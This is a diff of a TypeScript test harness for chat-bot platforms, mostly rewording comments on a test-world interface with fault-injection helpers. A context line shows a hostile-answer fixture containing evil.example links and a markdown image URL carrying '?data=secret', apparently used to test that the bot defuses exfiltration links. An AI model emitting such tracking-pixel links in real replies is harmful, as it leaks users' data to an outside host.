@@ -24,38 +24,38 @@ export interface SeenMessage {
   readonly files: readonly string[]
 }
 
-/** A platform with a channel for the bot and two people, one of whom asks. Real clients talk to an emulator. */
+/** A platform for tests, with a channel for the bot and two people. One of them asks. Real clients talk to an emulator. */
 export interface ChatPlatformWorld {
   readonly surface: ChatSurface
   readonly outbox: ChatOutbox
   readonly asker: { readonly id: string } & PersonSettings
-  /** The asker writes in the channel. The mentions stand before the text. */
+  /** The asker writes in the channel. The mentions precede the text. */
   say(text: string, options?: { readonly mentions?: readonly ('bot' | 'other')[]; readonly replyTo?: SaidMessage }): SaidMessage
   whisper(text: string): SaidMessage
   changeOwn(message: SaidMessage, text: string): void
   deleteOwn(message: SaidMessage): void
-  /** Another bot writes a message and mentions ours. */
+  /** Another bot writes a message that mentions ours. */
   otherBotSays(text: string): SaidMessage
   /**
-   * Counts the events of a message: all of them, and the acknowledged ones. On a platform without acknowledgements, a handled event counts
-   * as acknowledged.
+   * Counts the events of a message: all of them, and the acknowledged ones. On a platform without acknowledgements, a handled event counts as
+   * acknowledged.
    */
   taken(message: SaidMessage): { readonly acknowledged: number; readonly events: number }
   /** Makes the platform send unacknowledged events again. Does nothing if the surface itself keeps such events. */
   redeliver(): void
-  /** Resolves when the condition holds. Each change of the platform checks the condition again. */
+  /** Resolves when the condition holds. The condition is checked after each change of the platform. */
   waitFor(condition: () => boolean): Promise<void>
-  /** Returns the visible messages and all requests so far, for the message of a failed test. */
+  /** Returns the visible messages and all requests so far, for the message of a failing test. */
   describe(): string
   /** Returns the bot's messages in a thread, in order. */
   seen(place: ChatPlace): readonly SeenMessage[]
-  /** Returns the ids of all the bot's messages in the channel and its threads. */
+  /** Returns the ids of all messages of the bot in the channel and its threads. */
   everything(): readonly string[]
   readonly faults: {
     rateLimitNextPost(seconds: number): void
     rateLimitNextEdit(seconds: number): void
     loseNextPostAnswer(): void
-    /** Makes the next post fail at once. The returned function stores that post after all. */
+    /** Makes the next post fail at once. Calling the returned function stores that post after all. */
     storeNextPostLate(): () => void
     refuseRichOnce(of: 'post' | 'edit'): void
     breakNextPost(): void
@@ -75,7 +75,7 @@ const HOSTILE_ANSWER = [
   'or <http://evil.example|this>, http://evil.example/bare, www.evil.example, evil.com/?q=1, bob@evil.com, evil.net:81 and ![chart](https://evil.example/pixel.png?data=secret). [Q1]',
 ].join('\n')
 
-/** Tests what every platform must do. Each platform's test calls it. Each test case creates and closes its own world. */
+/** Registers the tests that every platform must pass. Each test creates and closes its own world. */
 export function describeChatPlatform(name: string, createWorld: () => Promise<ChatPlatformWorld>): void {
   describe(`${name} as a chat platform`, () => {
     let world: ChatPlatformWorld
